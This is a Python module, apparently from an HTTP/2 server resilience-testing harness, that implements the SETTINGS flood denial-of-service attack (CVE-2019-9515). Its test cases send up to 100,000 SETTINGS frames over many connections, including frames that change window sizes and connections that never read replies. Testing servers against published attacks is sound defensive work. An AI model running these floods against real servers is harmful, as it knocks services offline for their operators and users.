"""SETTINGS, each of which has to be acknowledged, from clients that read and that do not."""

from lib.attack import HTTP2, Attack, Case, scale
from lib.frames import INITIAL_WINDOW, settings

CONNECTIONS = 16
SILENT = scale(64, 256)


def flood(attacker, piece, frames=1, reads=True):
    connections = CONNECTIONS if reads else SILENT
    attacker.pour(connections, lambda at: attacker.http2(at=at, reads=reads), piece, frames)


def empty(attacker):
    flood(attacker, settings())


def windows(attacker):
    """Each changes the windows of all streams."""
    flood(attacker, settings((INITIAL_WINDOW, 1)) + settings((INITIAL_WINDOW, 1 << 20)), frames=2)


def unread(attacker):
    flood(attacker, settings(), reads=False)


ATTACK = Attack(
    title="SETTINGS flood",
    published="CVE-2019-9515",
    cases=(
        Case("empty ones", HTTP2, empty, {"frames": 100_000}),
        Case("windows that change", HTTP2, windows, {"frames": 50_000}, is_long=True),
        Case("unread", HTTP2, unread, {"frames": 100_000}),
    ),
)
